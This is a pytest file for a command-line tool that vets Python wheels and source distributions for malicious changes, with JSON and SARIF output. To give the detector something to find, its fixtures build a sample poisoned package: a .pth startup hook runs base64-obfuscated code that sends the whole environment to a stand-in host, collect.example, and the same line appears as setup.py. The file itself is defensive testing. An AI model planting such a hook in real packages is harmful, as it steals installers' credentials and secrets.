"""`pratique vet` and `pratique diff`, as a person runs them."""

from __future__ import annotations

import base64
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from kit.distributions import make_sdist, make_wheel
from kit.sarif_schema import SARIF
from kit.schemas import assert_fits
from kit.shop import OLD
from kit.upstream import FakeUpstream
from pratique.doors.cli import cli
from pratique.values.sarif import LEVELS

pytestmark = pytest.mark.slow  # most of them start vetting workers

INERT = (
    "import os, urllib.request\n"
    "urllib.request.urlopen('https://collect.example/?' + str(dict(os.environ)))\n"
)
HOOK = (
    "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', "
    f"\"import base64; exec(base64.b64decode('{base64.b64encode(INERT.encode()).decode()}'))\"])\n"
)
PLAIN = {"demo/__init__.py": "VALUE = 1\n"}
POISONED = {**PLAIN, "demo_init.pth": HOOK}


@pytest.fixture
def folder(tmp_path: Path) -> Path:
    for version, files in (("1.0", PLAIN), ("1.1", POISONED)):
        name, content = make_wheel("demo", version, files=files)
        (tmp_path / name).write_bytes(content)
    return tmp_path


def run(*arguments: str | Path, home: Path) -> Result:
    environment = {"PRATIQUE_HOME": str(home)}
    return CliRunner(env=environment).invoke(cli, ["vet", *map(str, arguments)])


@pytest.mark.slow
def test_a_poisoned_wheel_is_told_with_its_evidence(folder: Path, tmp_path: Path) -> None:
    told = run(
        folder / "demo-1.1-py3-none-any.whl",
        "--against",
        folder / "demo-1.0-py3-none-any.whl",
        home=tmp_path / "home",
    )
    assert told.exit_code == 1
    first, *_ = told.output.splitlines()
    assert "MALICIOUS" in first
    assert "compared with demo-1.0-py3-none-any.whl" in first
    assert "demo_init.pth:1" in told.output
    assert "sends the whole environment" in told.output
    assert "honest reasons:" in told.output


@pytest.mark.slow
def test_json_and_sarif_tell_the_same(folder: Path, tmp_path: Path) -> None:
    wheel = folder / "demo-1.1-py3-none-any.whl"
    answer = run(wheel, "--format", "json", home=tmp_path / "home")
    (one,) = json.loads(answer.output)["files"]
    assert one["verdict"] == "malicious"
    assert len(one["sha256"]) == 64
    findings = one["report"]["findings"]
    assert {"rule", "path", "line", "column", "shown", "danger", "benign"} <= findings[0].keys()
    sarif = json.loads(run(wheel, "--format", "sarif", home=tmp_path / "home").output)
    results = sarif["runs"][0]["results"]
    assert len(results) == len(findings)
    place = results[0]["locations"][0]["physicalLocation"]
    assert place["artifactLocation"]["uri"] == "demo-1.1-py3-none-any.whl%21/demo_init.pth"
    assert place["region"]["startLine"] == 1


@pytest.mark.slow
def test_sarif_is_valid_and_names_its_rules(folder: Path, tmp_path: Path) -> None:
    wheel = folder / "demo-1.1-py3-none-any.whl"
    broken = tmp_path / "demo-1.2-py3-none-any.whl"
    broken.write_bytes(wheel.read_bytes()[:200])
    log = json.loads(run(wheel, broken, "--format", "sarif", home=tmp_path / "home").output)
    assert_fits(log, SARIF)
    (told,) = log["runs"]
    rules = told["tool"]["driver"]["rules"]
    assert len({rule["id"] for rule in rules}) == len(rules)
    for item in told["results"]:
        assert rules[item["ruleIndex"]]["id"] == item["ruleId"]
        assert item["properties"]["attack"]
    assert {item["level"] for item in told["results"]} <= LEVELS
    fingerprints = [str(item["partialFingerprints"]) for item in told["results"]]
    assert len(set(fingerprints)) == len(fingerprints)
    (invocation,) = told["invocations"]
    notes = [note["message"]["text"] for note in invocation["toolExecutionNotifications"]]
    assert any("demo-1.2-py3-none-any.whl" in note for note in notes)


@pytest.mark.slow
def test_a_clean_wheel_and_a_folder_of_sources(folder: Path, tmp_path: Path) -> None:
    clean = run(folder / "demo-1.0-py3-none-any.whl", home=tmp_path / "home")
    assert (clean.exit_code, "CLEAN" in clean.output) == (0, True)
    sources = tmp_path / "sources"
    (sources / "demo").mkdir(parents=True)
    (sources / "setup.py").write_text(INERT, "utf-8")
    told = run(sources, home=tmp_path / "home")
    assert told.exit_code == 1
    assert "setup.py" in told.output


@pytest.mark.slow
def test_a_broken_archive_is_unknown_and_says_why(folder: Path, tmp_path: Path) -> None:
    wheel = folder / "demo-1.0-py3-none-any.whl"
    wheel.write_bytes(wheel.read_bytes()[:-30])
    told = run(wheel, home=tmp_path / "home")
    assert told.exit_code == 3
    assert "UNKNOWN" in told.output
    assert "not examined:" in told.output


@pytest.mark.slow
@pytest.mark.parametrize("name", ["notes.txt", "demo-0.9.tar.gz", "demo-0.9-py3-none-any.whl"])
def test_what_is_no_archive_is_nothing_to_compare_with(
    folder: Path, tmp_path: Path, name: str
) -> None:
    other = tmp_path / name
    other.write_bytes(b"nothing that anybody packed")
    wheel = folder / "demo-1.0-py3-none-any.whl"
    told = run(wheel, "--against", other, home=tmp_path / "home")
    assert told.exit_code == 3
    assert f"cannot compare with {name}" in told.output
    assert "CLEAN" not in told.output


@pytest.mark.parametrize(
    ("arguments", "says"),
    [
        (["nosuch"], "nothing to vet"),
        (["six==not a version"], "version"),
        (["demo-1.0-py3-none-any.whl", "--against", "nosuch file"], "nothing to compare with"),
        (["six==1.0", "--index", "elsewhere"], "no index view"),
    ],
)
def test_what_cannot_be_done_is_said(
    folder: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, arguments: list[str], says: str
) -> None:
    monkeypatch.chdir(folder)
    told = run(*arguments, home=tmp_path / "home")
    assert told.exception is not None
    assert says in str(told.exception)


# ── releases of an index ─────────────────────────────────────────────────────────────────────


@pytest.fixture
def home(tmp_path: Path) -> Any:
    with FakeUpstream() as upstream:
        for version, files in (("1.0", PLAIN), ("1.1", POISONED)):
            for name, content in (
                make_wheel("demo", version, files=files),
                make_sdist("demo", version, files=files),
            ):
                upstream.add_file("demo", name, content, upload_time=OLD)
        home = tmp_path / "home"
        home.mkdir(mode=0o700)
        text = f'[[upstream]]\nname = "public"\nurl = "{upstream.url}"\n'
        (home / "pratique.toml").write_text(text, "utf-8")
        yield home


@pytest.mark.slow
def test_a_release_is_compared_with_the_one_before(home: Path) -> None:
    told = run("demo==1.1", "--format", "json", home=home)
    assert told.exit_code == 1
    files = {one["filename"]: one for one in json.loads(told.output)["files"]}
    assert set(files) == {"demo-1.1-py3-none-any.whl", "demo-1.1.tar.gz"}
    for name, one in files.items():
        assert one["verdict"] == "malicious", name
        assert one["report"]["base"] == name.replace("1.1", "1.0")


@pytest.mark.slow
def test_every_pin_of_a_lock_file_is_vetted(home: Path, tmp_path: Path) -> None:
    lock = tmp_path / "requirements.txt"
    lock.write_text("demo==1.0\nmissing==3.0\n", "utf-8")
    told = run(lock, home=home)
    assert told.exit_code == 3
    assert "demo-1.0-py3-none-any.whl  CLEAN" in told.output
    assert "missing==3.0  UNKNOWN" in told.output


@pytest.mark.slow
def test_diff_tells_behaviour(home: Path) -> None:
    runner = CliRunner(env={"PRATIQUE_HOME": str(home)})
    told = runner.invoke(cli, ["diff", "demo", "1.0", "1.1"])
    assert told.exit_code == 1
    assert "+ network (startup)  demo_init.pth:1" in told.output
    assert "startup:" in told.output
    same = runner.invoke(cli, ["diff", "demo", "1.1", "1.0", "--format", "json"])
    assert json.loads(same.output)["files"][0]["report"]["regime"] == "diff"
